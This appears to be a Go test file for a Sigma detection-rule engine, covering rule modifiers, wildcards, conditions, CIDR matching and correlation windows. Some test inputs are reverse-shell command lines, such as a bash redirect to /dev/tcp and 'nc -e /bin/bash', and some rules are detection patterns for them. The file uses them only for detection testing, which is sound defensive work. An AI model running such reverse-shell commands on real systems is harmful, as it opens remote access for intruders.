package sigma

import (
	"strings"
	"testing"
	"time"
)

var (
	proc  = Source{Category: "process_creation", Product: "linux"}
	tZero = time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)
)

func load(t *testing.T, doc string) *Ruleset {
	t.Helper()
	rs, errs := Load([]File{{Name: "t.yml", Data: []byte(doc)}}, Options{})
	if len(errs) > 0 {
		t.Fatal(errs[0].Error())
	}
	return rs
}

func ev(src Source, kv ...string) *Event {
	e := &Event{}
	e.Reset(src)
	for i := 0; i+1 < len(kv); i += 2 {
		e.Add(kv[i], kv[i+1])
	}
	return e
}

func matchAll(rs *Ruleset, e *Event) []string {
	var out []string
	rs.NewMatcher().Match(e, func(r *Rule) { out = append(out, r.Title) })
	return out
}

const head = "title: T\nlogsource: {product: linux, category: process_creation}\ndetection:\n"

func TestModifiersAndWildcards(t *testing.T) {
	tests := []struct {
		name, sel string
		value     string
		want      bool
	}{
		{"equals is case-insensitive", "CommandLine: 'Whoami'", "WHOAMI", true},
		{"equals is whole", "CommandLine: 'whoami'", "whoami /all", false},
		{"contains", "CommandLine|contains: '/dev/tcp/'", "bash -i >& /dev/TCP/1.2.3.4/1 0>&1", true},
		{"startswith", "CommandLine|startswith: 'curl '", "curl -s x", true},
		{"startswith miss", "CommandLine|startswith: 'curl '", "xcurl -s x", false},
		{"endswith", "CommandLine|endswith: '.sh'", "bash /tmp/a.SH", true},
		{"list is or", "CommandLine|contains: ['aaa', 'bbb']", "xbbbx", true},
		{"all is and", "CommandLine|contains|all: ['aaa', 'bbb']", "aaa only", false},
		{"all holds", "CommandLine|contains|all: ['aaa', 'bbb']", "bbb aaa", true},
		{"star wildcard", "CommandLine: 'chmod * /tmp/*'", "chmod 777 /tmp/x", true},
		{"question wildcard", "CommandLine: 'nc?'", "nc6", true},
		{"question needs a char", "CommandLine: 'nc?'", "nc", false},
		{"escaped star is literal", `CommandLine: 'a\*b'`, "a*b", true},
		{"escaped star does not glob", `CommandLine: 'a\*b'`, "axxb", false},
		{"escaped backslash then wildcard", `CommandLine: 'a\\*'`, `a\zzz`, true},
		{"plain backslash", `CommandLine: 'C:\Windows'`, `c:\windows`, true},
		{"re is case-sensitive", "CommandLine|re: 'Sh -i'", "sh -i", false},
		{"re with i", "CommandLine|re|i: 'Sh -i'", "sh -i", true},
		{"re unanchored", "CommandLine|re: '-e\\s+/bin/(ba)?sh'", "nc -e /bin/bash 1.2.3.4", true},
		{"cased", "CommandLine|cased: 'Foo'", "foo", false},
		{"cased holds", "CommandLine|cased|contains: 'Foo'", "xFoo", true},
		{"windash", "CommandLine|windash|contains: ' -enc '", "x /enc y", true},
		{"base64", "CommandLine|base64|contains: 'whoami'", "echo d2hvYW1p | base64 -d", true},
		{"base64offset", "CommandLine|base64offset|contains: 'whoami'", "echo eCB3aG9hbWk= | base64 -d", true},
		{"null means absent", "ParentImage: null", "x", true},
		{"empty means absent or empty", "ParentImage: ''", "x", true},
		{"exists false", "ParentImage|exists: false", "x", true},
		{"exists true", "CommandLine|exists: true", "x", true},
		{"gt", "CommandLine|gt: 5", "7", true},
		{"lte", "CommandLine|lte: 5", "7", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs := load(t, head+"    sel:\n        "+tt.sel+"\n    condition: sel\n")
			got := len(matchAll(rs, ev(proc, "CommandLine", tt.value))) == 1
			if got != tt.want {
				t.Fatalf("%s on %q: got %v", tt.sel, tt.value, got)
			}
		})
	}
}

func TestCIDR(t *testing.T) {
	rs, errs := Load([]File{{Name: "n.yml", Data: []byte("title: N\nlogsource: {category: network_connection}\ndetection:\n    sel:\n        DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8']\n    condition: sel\n")}}, Options{})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	net := Source{Category: "network_connection", Product: "linux"}
	for ip, want := range map[string]bool{"10.1.2.3": true, "11.1.2.3": false, "fd00::1": true, "not-an-ip": false} {
		if got := len(matchAll(rs, ev(net, "DestinationIp", ip))) == 1; got != want {
			t.Errorf("%s: got %v", ip, got)
		}
	}
}

func TestConditions(t *testing.T) {
	det := "    sel_a: {CommandLine|contains: aaa}\n    sel_b: {CommandLine|contains: bbb}\n    filter: {CommandLine|contains: zzz}\n    _hidden: {CommandLine|contains: hhh}\n"
	tests := []struct {
		cond  string
		value string
		want  bool
	}{
		{"sel_a and sel_b", "aaa bbb", true},
		{"sel_a and sel_b", "aaa", false},
		{"sel_a or sel_b", "bbb", true},
		{"sel_a and not filter", "aaa zzz", false},
		{"not filter", "nothing", true},
		{"1 of sel_*", "bbb", true},
		{"all of sel_*", "bbb", false},
		{"all of sel_* and not filter", "aaa bbb", true},
		{"1 of them", "zzz", true},
		{"1 of them", "hhh", false}, // _hidden is not part of them
		{"all of them", "aaa bbb zzz", true},
		{"sel_a and (sel_b or filter)", "aaa zzz", true},
		{"(sel_a or sel_b) and not (filter or _hidden)", "aaa hhh", false},
		{"not sel_a and not sel_b", "ccc", true},
		{"sel_a or sel_b and filter", "aaa", true}, // and binds tighter than or
		{"NOT sel_a AND sel_b", "bbb", true},
	}
	for _, tt := range tests {
		rs := load(t, head+det+"    condition: "+tt.cond+"\n")
		if got := len(matchAll(rs, ev(proc, "CommandLine", tt.value))) == 1; got != tt.want {
			t.Errorf("%q on %q: got %v", tt.cond, tt.value, got)
		}
	}
}

func TestKeywordsAndLists(t *testing.T) {
	src := Source{Product: "linux", Services: "sshd,auth,syslog"}
	rs := load(t, "title: K\nlogsource: {product: linux, service: sshd}\ndetection:\n    keywords:\n        - 'Bad protocol'\n        - 'error*ssh'\n    all:\n        '|all': ['one', 'two']\n    maps:\n        - {Program: sshd, User: root}\n        - {Program: su}\n    condition: keywords or all or maps\n")
	cases := map[string]bool{"x bad PROTOCOL version": true, "an error in ssh": true, "one and two": true, "one": false}
	for line, want := range cases {
		if got := len(matchAll(rs, ev(src, Keywords, line))) == 1; got != want {
			t.Errorf("%q: got %v", line, got)
		}
	}
	if len(matchAll(rs, ev(src, Keywords, "-", "Program", "sshd", "User", "root"))) != 1 || len(matchAll(rs, ev(src, Keywords, "-", "Program", "sshd"))) != 0 {
		t.Error("list of maps")
	}
	// logsource routing: a cron line is not an sshd line
	if len(matchAll(rs, ev(Source{Product: "linux", Services: "cron,syslog"}, Keywords, "bad protocol"))) != 0 {
		t.Error("routed to the wrong service")
	}
}

func TestMultiValuedField(t *testing.T) {
	rs := load(t, head+"    sel:\n        Args: '-e'\n    condition: sel\n")
	e := ev(proc, "Args", "-v", "Args", "-e", "Args", "host")
	if len(matchAll(rs, e)) != 1 {
		t.Fatal("any value of a multi-valued field should match")
	}
}

func TestSkippedAndRejected(t *testing.T) {
	opts := Options{
		Covered:    func(l Logsource) bool { return l.Product == "linux" },
		KnownField: func(l Logsource, f string) bool { return f == "CommandLine" || f == Keywords },
	}
	files := []File{
		{Name: "unknown_field.yml", Data: []byte(head + "    sel: {LogonId: 0}\n    condition: sel\n")},
		{Name: "unknown_mod.yml", Data: []byte(head + "    sel: {CommandLine|utf16le: x}\n    condition: sel\n")},
		{Name: "windows.yml", Data: []byte("title: W\nlogsource: {product: windows}\ndetection:\n    sel: {CommandLine: x}\n    condition: sel\n")},
		{Name: "lookahead.yml", Data: []byte(head + "    sel: {CommandLine|re: 'a(?=b)'}\n    condition: sel\n")},
		{Name: "agg.yml", Data: []byte(head + "    sel: {CommandLine: x}\n    condition: sel | count() > 5\n")},
		{Name: "undefined.yml", Data: []byte(head + "    sel: {CommandLine: x}\n    condition: sel and other\n")},
		{Name: "badre.yml", Data: []byte(head + "    sel: {CommandLine|re: '[a-'}\n    condition: sel\n")},
		{Name: "yaml.yml", Data: []byte("title: [unclosed\n")},
		{Name: "ok.yml", Data: []byte(head + "    sel: {CommandLine: x}\n    condition: sel\n")},
	}
	rs, errs := Load(files, opts)
	if len(rs.Rules) != 1 || len(rs.Skipped) != 5 || len(errs) != 3 {
		t.Fatalf("loaded %d, skipped %v, errors %v", len(rs.Rules), rs.Skipped, errs)
	}
	want := []string{"unknown field \"LogonId\"", "unsupported modifier \"utf16le\"", "log source product=windows", "regular expression", "aggregation"}
	for i, w := range want {
		if !strings.Contains(rs.Skipped[i].Error(), w) || !strings.HasPrefix(rs.Skipped[i].Error(), files[i].Name+":1: T") && i != 2 {
			t.Errorf("skip %d: %v, want %q", i, rs.Skipped[i].Error(), w)
		}
	}
	if !strings.HasPrefix(errs[0].Error(), "undefined.yml:1: T: condition uses undefined search identifier \"other\"") ||
		!strings.HasPrefix(errs[2].Error(), "yaml.yml:1: ") {
		t.Fatalf("errors %v", errs)
	}
}

const corrDoc = `title: Fail
name: fail
logsource: {product: linux}
detection:
    sel: {Action: login_failed}
    condition: sel
---
title: Many
name: many
correlation:
    type: event_count
    rules: [fail]
    group-by: [SourceIp]
    timespan: 1m
    condition: {gte: 3}
---
title: Users
name: users
correlation:
    type: value_count
    rules: [fail]
    group-by: [SourceIp]
    timespan: 1m
    condition: {field: User, gte: 2}
---
title: Ok
name: ok
logsource: {product: linux}
detection:
    sel: {Action: login}
    condition: sel
---
title: Fail then ok
name: both
correlation:
    type: temporal
    rules: [fail, ok]
    group-by: [SourceIp]
    timespan: 1m
    generate: true
`

func TestCorrelations(t *testing.T) {
	rs := load(t, corrDoc)
	src := Source{Product: "linux"}
	fail, many, users, both, ok := rs.Rule("fail"), rs.Rule("many"), rs.Rule("users"), rs.Rule("both"), rs.Rule("ok")
	if !fail.Silent || ok.Silent || len(fail.Correlations) != 3 {
		t.Fatalf("silent %v/%v, correlations %d", fail.Silent, ok.Silent, len(fail.Correlations))
	}
	c := NewCorrelator(10)
	t0 := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
	obs := func(corr, base *Rule, sec int, user, ip string) (Hit, bool) {
		return c.Observe(corr, base, ev(src, "User", user, "SourceIp", ip), t0.Add(time.Duration(sec)*time.Second), Observation{ID: user + ip})
	}
	if _, f := obs(many, fail, 0, "a", "1.1.1.1"); f {
		t.Fatal("fired at 1")
	}
	obs(many, fail, 10, "b", "1.1.1.1")
	if _, f := obs(many, fail, 20, "c", "2.2.2.2"); f {
		t.Fatal("another group counted")
	}
	h, f := obs(many, fail, 30, "c", "1.1.1.1")
	if !f || h.Count != 3 || h.Episode != "a1.1.1.1" || len(h.Evidence) != 3 || h.Last.Sub(h.First) != 30*time.Second {
		t.Fatalf("hit %+v %v", h, f)
	}
	// the window slides: at 75 s the event at 0 s and 10 s are gone
	if _, f := obs(many, fail, 75, "d", "1.1.1.1"); f {
		t.Fatal("old events still counted")
	}
	// value_count counts distinct users
	obs(users, fail, 0, "a", "3.3.3.3")
	if _, f := obs(users, fail, 1, "a", "3.3.3.3"); f {
		t.Fatal("same user counted twice")
	}
	if h, f := obs(users, fail, 2, "b", "3.3.3.3"); !f || h.Count != 2 || strings.Join(h.Values, ",") != "a,b" {
		t.Fatalf("value_count %+v", h)
	}
	// temporal: both rules within the span
	obs(both, fail, 0, "a", "4.4.4.4")
	if h, f := obs(both, ok, 5, "a", "4.4.4.4"); !f || h.Count != 2 {
		t.Fatalf("temporal %+v", h)
	}
	// a missing group-by field is not counted
	if _, f := c.Observe(many, fail, ev(src, "User", "x"), t0, Observation{}); f {
		t.Fatal("counted without SourceIp")
	}
}

func TestCorrelatorBounds(t *testing.T) {
	rs := load(t, corrDoc)
	many, fail := rs.Rule("many"), rs.Rule("fail")
	c := NewCorrelator(5)
	t0 := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
	src := Source{Product: "linux"}
	for i := 0; i < 50; i++ {
		c.Observe(many, fail, ev(src, "SourceIp", string(rune('A'+i))), t0.Add(time.Duration(i)*time.Second), Observation{})
	}
	if n := c.Groups(many); n > 5 {
		t.Fatalf("%d groups held, bound 5", n)
	}
	// one far-future event neither fires nor blinds the group for later events
	ip := ev(src, "SourceIp", "9.9.9.9")
	c.Observe(many, fail, ip, time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC), Observation{})
	var fired bool
	for i := 0; i < 3; i++ {
		_, fired = c.Observe(many, fail, ip, t0.Add(time.Hour+time.Duration(i)*time.Second), Observation{})
	}
	if !fired {
		t.Fatal("a far-future event blinded the group")
	}
	// per-group entries are capped
	for i := 0; i < 5000; i++ {
		c.Observe(many, fail, ip, t0.Add(2*time.Hour), Observation{})
	}
	if n := len(c.byRule[many.Ref()]["9.9.9.9"].entries); n > 64 {
		t.Fatalf("%d entries held in one group", n)
	}
}

func TestAnchorsPrefilter(t *testing.T) {
	rs := load(t, head+"    sel: {Image|endswith: '/nc', CommandLine|contains: ' -e '}\n    condition: sel\n---\n"+head+"    sel: {CommandLine|re: 'x'}\n    condition: not sel\n")
	rt := rs.router(proc, nil)
	if len(rt.rules) != 2 || len(rt.always) != 1 || len(rt.fields) != 1 {
		t.Fatalf("router %+v", rt)
	}
}
